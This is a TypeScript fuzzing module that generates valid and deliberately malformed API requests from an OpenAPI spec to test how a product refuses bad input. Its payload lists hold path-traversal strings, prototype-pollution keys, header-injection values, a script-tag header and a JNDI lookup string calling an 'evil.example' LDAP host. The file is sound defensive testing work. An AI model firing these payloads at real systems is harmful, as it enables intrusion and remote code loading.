import fc from 'fast-check'
import { hostileJson, hostileText, hostileValue } from './hostile-values.ts'
import { collectionOf } from './pools.ts'
import { type JsonSchema, valuesOf } from './schema-values.ts'
import { uploads } from './uploads.ts'

/** One request as it is kept: ids of the city stand as `@pool:name:number@`, bytes as base64. */
export interface ApiCase {
  method: string
  /** Of the document: `/api/items/{id}`; what the answer is held against. */
  route: string
  path: string
  query: string
  /** A role, `token`, or `nobody`. */
  as: string
  headers: Record<string, string>
  body: { type: string; text?: string; base64?: string } | null
  /** Sent twice at the same moment. */
  isTwice: boolean
  /** What was done to a request that would have been right; for the report. */
  trick: string
}

export interface Parameter {
  name: string
  in: 'path' | 'query' | 'header' | 'cookie'
  required?: boolean
  schema: JsonSchema
}

export interface Operation {
  operationId: string
  parameters?: Parameter[]
  requestBody?: { content: Record<string, { schema: JsonSchema }> }
  responses: Record<string, { content?: Record<string, { schema: JsonSchema }> }>
}

export interface OpenApi {
  paths: Record<string, Record<string, Operation>>
  components?: { schemas?: Record<string, JsonSchema> }
}

export function resolverOf(document: OpenApi): (ref: string) => JsonSchema {
  return (ref) => {
    const steps = ref.replace(/^#\//, '').split('/')
    return steps.reduce<unknown>(
      (at, step) => (at as Record<string, unknown>)?.[step],
      document,
    ) as JsonSchema
  }
}

/** Who sends cases to a route. */
type WhoMay = (method: string, route: string) => readonly string[]

/** Requests to every route of the document, right ones and ones with a trick, by every role and by nobody. */
export function apiCases(document: OpenApi, whoMay: WhoMay): fc.Arbitrary<ApiCase> {
  const resolve = resolverOf(document)
  const operations = Object.entries(document.paths).flatMap(([route, methods]) =>
    Object.entries(methods).map(([method, operation]) =>
      caseOf({ method, route, operation, resolve, people: whoMay(method.toUpperCase(), route) }),
    ),
  )
  return fc.oneof(...operations)
}

interface OperationOf {
  method: string
  route: string
  operation: Operation
  resolve(ref: string): JsonSchema
  people: readonly string[]
}

function caseOf({ method, route, operation, resolve, people }: OperationOf): fc.Arbitrary<ApiCase> {
  const place = { name: collectionOf(route), depth: 0, resolve }
  const parameters = operation.parameters ?? []
  const query = parameters.filter((each) => each.in === 'query')
  const right: fc.Arbitrary<Omit<ApiCase, 'trick'>> = fc.record({
    method: fc.constant(method.toUpperCase()),
    route: fc.constant(route),
    path: fc.nat(1000).map((number) => pathOf(route, parameters, number)),
    query: fc
      .tuple(
        ...query.map(({ name, schema, required }) => {
          const value = valuesOf(schema, { ...place, name })
          return fc.option(value, { freq: required ? 50 : 1 }).map((each) => queryPart(name, each))
        }),
      )
      .map((parts) => parts.filter(Boolean).join('&')),
    as: fc.constantFrom(...people),
    headers: fc.constant({}),
    body: bodyOf(operation, place),
    isTwice: fc.nat(40).map((number) => number === 0),
  })
  const trick = tricks(operation)
  return fc.tuple(right, fc.option(trick, { freq: 2 })).map(([request, change]) => {
    return change ? change(request) : { ...request, trick: 'none' }
  })
}

function pathOf(route: string, parameters: readonly Parameter[], number: number): string {
  return route.replace(/\{(\w+)\}/g, (whole, name: string) => {
    const before = collectionOf(route.slice(0, route.indexOf(whole)))
    const schema = parameters.find((each) => each.in === 'path' && each.name === name)?.schema
    if (schema?.enum) return String(schema.enum[number % schema.enum.length])
    if (name === 'id' || name === `${before.replace(/s$/, '')}Id`) return `@pool:${before}:${number}@`
    if (['code', 'key', 'number'].includes(name)) return `@pool:${before}.${name}:${number}@`
    return `@pool:${name}:${number}@`
  })
}

const queryPart = (name: string, value: unknown): string => {
  if (value === null || value === undefined) return ''
  const all = Array.isArray(value) ? value : [value]
  return all
    .map(
      (each) => `${encode(name)}=${encode(typeof each === 'object' ? JSON.stringify(each) : String(each))}`,
    )
    .join('&')
}

/** Percent-encodes, symbols and all: they are made readable again. */
const encode = (text: string) =>
  encodeURIComponent(text.toWellFormed()).replace(/%40pool%3A(\w+)%3A(\d+)%40/g, '@pool:$1:$2@')

function bodyOf(operation: Operation, place: Parameters<typeof valuesOf>[1]): fc.Arbitrary<ApiCase['body']> {
  const content = Object.entries(operation.requestBody?.content ?? {})
  if (content.length === 0) return fc.constant(null)
  return fc.oneof(
    ...content.map(([type, { schema }]) =>
      type.startsWith('multipart/')
        ? uploads(Object.keys(schema.properties ?? {}).filter((name) => name !== 'file'))
        : valuesOf(schema, place).map((value) => ({ type, text: JSON.stringify(value) ?? '' })),
    ),
  )
}

type Change = (request: Omit<ApiCase, 'trick'>) => ApiCase

/** Each turns a right request into one that the product must answer with a refusal, or rightly. */
function tricks(operation: Operation): fc.Arbitrary<Change> {
  const all: { weight: number; arbitrary: fc.Arbitrary<Change> }[] = [
    { weight: 2, arbitrary: fc.tuple(fc.nat(6), hostilePath).map(([at, text]) => pathTrick(at, text)) },
    {
      weight: 3,
      arbitrary: fc.tuple(hostileText, hostileText, fc.nat(8)).map((parts) => queryTrick(...parts)),
    },
    {
      weight: 2,
      arbitrary: headers.map(
        (each): Change =>
          (r) => ({ ...r, headers: { ...r.headers, ...each }, trick: 'headers' }),
      ),
    },
  ]
  if (operation.requestBody) {
    all.push(
      {
        weight: 6,
        arbitrary: fc.tuple(fc.nat(1000), hostileValue, fc.nat(5)).map((parts) => valueTrick(...parts)),
      },
      {
        weight: 3,
        arbitrary: hostileJson.map(
          (text): Change =>
            (r) => ({ ...r, body: { type: 'application/json', text }, trick: 'json' }),
        ),
      },
      {
        weight: 1,
        arbitrary: fc.tuple(contentTypes, fc.uint8Array({ maxLength: 80 })).map(
          ([type, bytes]): Change =>
            (r) => ({ ...r, body: { type, base64: Buffer.from(bytes).toString('base64') }, trick: 'type' }),
        ),
      },
      { weight: 1, arbitrary: fc.constant<Change>((r) => ({ ...r, body: null, trick: 'no body' })) },
    )
  }
  return fc.oneof(...all)
}

const hostilePath = fc.oneof(
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '..%2f..%2f',
    '..%5c',
    '%00',
    '%',
    '%zz',
    '%ff%fe',
    '%c0%ae',
    '__proto__',
    'constructor',
    '',
    '//',
    'a;b',
    '%0d%0aX:y',
    '*',
    '%252e',
    '~',
    'null',
    'undefined',
    '-1',
    '1e9',
    '%F0%9F%98%80',
    'A'.repeat(400),
    '%ED%A0%80',
  ),
  hostileText.map((text) => encodeURIComponent(text.toWellFormed()).slice(0, 3000)),
)

const pathTrick =
  (at: number, text: string): Change =>
  (request) => {
    const parts = request.path.split('/')
    const symbols = parts.flatMap((part, index) => (part.includes('@pool') ? [index] : []))
    const index = symbols.length > 0 ? symbols[at % symbols.length]! : parts.length
    parts[index] = text
    return { ...request, path: parts.join('/'), trick: 'path' }
  }

const queryTrick =
  (name: string, value: string, kind: number): Change =>
  (request) => {
    const [n, v] = [
      encodeURIComponent(name.toWellFormed().slice(0, 500)),
      encodeURIComponent(value.toWellFormed().slice(0, 4000)),
    ]
    const known = /([^&=]+)=/.exec(request.query)?.[1]
    const more = [
      `${n}=${v}`,
      `${known ?? 'page'}=${v}`,
      `${known ?? 'page'}=1&${known ?? 'page'}=2`,
      `${known ?? 'page'}[]=1`,
      `${known ?? 'page'}[a]=1`,
      '%zz=%',
      `__proto__=${v}`,
      `${known ?? 'q'}=%00`,
      `${known ?? 'q'}=%ED%A0%80`,
    ][kind]!
    return { ...request, query: [request.query, more].filter(Boolean).join('&'), trick: 'query' }
  }

/** Puts a hostile value, a name or nothing in place of one value inside the body. */
const valueTrick =
  (at: number, value: unknown, kind: number): Change =>
  (request) => {
    if (request.body?.text === undefined) return { ...request, trick: 'none' }
    const content = JSON.parse(request.body.text) as unknown
    const places = placesIn(content)
    const [holder, key] = places[at % places.length] ?? []
    if (!holder || key === undefined)
      return {
        ...request,
        body: { type: request.body.type, text: JSON.stringify(value) ?? 'null' },
        trick: 'value',
      }
    if (kind === 0) delete holder[key]
    else if (kind === 1) holder[`${key}${typeof value === 'string' ? value.slice(0, 30) : 'x'}`] = value
    else holder[key] = value
    return { ...request, body: { ...request.body, text: JSON.stringify(content) }, trick: 'value' }
  }

type Holder = Record<string, unknown>

function placesIn(value: unknown): [Holder, string][] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, each]): [Holder, string][] => [
    [value as Holder, key],
    ...placesIn(each),
  ])
}

const contentTypes = fc.constantFrom(
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary="\\x"',
  'application/json; charset=utf-16',
  'application/json;',
  'application/octet-stream',
  'constructor',
  'a/b; c',
  '*/*',
  'application/problem+json',
)

const headers = fc.oneof(
  fc.constantFrom<Record<string, string>>(
    { 'x-csrf-token': '' },
    { 'x-csrf-token': 'a'.repeat(43) },
    { 'x-csrf-token': 'a'.repeat(8000) },
    { cookie: '' },
    { cookie: 'quarterdeck-session=x' },
    { cookie: `quarterdeck-session=00000000-0000-0000-0000-000000000000.${'a'.repeat(43)}` },
    { cookie: `${'a=b; '.repeat(1500)}` },
    { authorization: 'Bearer ' },
    { authorization: 'Bearer qd_x_y' },
    { authorization: `Bearer qd_${'0'.repeat(32)}_${'a'.repeat(43)}` },
    { authorization: 'Basic YTpi' },
    { origin: 'https://evil.example' },
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site' },
    { 'accept-language': '*;q=9, en-GB-x-y;q=abc, '.repeat(50) },
    { 'accept-language': 'en' },
    { accept: 'text/html' },
    { 'x-forwarded-for': '"><script>, 1.2.3.4' },
    { 'x-forwarded-proto': 'javascript' },
    { 'x-forwarded-host': 'evil.example\\x' },
    { 'x-http-method-override': 'DELETE' },
    { 'if-none-match': '*' },
    { range: 'bytes=0-0,1-1,5-2' },
    { 'content-encoding': 'gzip' },
    { 'user-agent': '\u00ff'.repeat(2000) },
    { 'user-agent': '$\u007bjndi:ldap://evil.example}' },
    { host: 'evil.example' },
  ),
  fc
    .string({ maxLength: 60 })
    .map((text): Record<string, string> => ({ 'user-agent': text.replace(/[^\x20-\x7e]/g, '?') })),
)
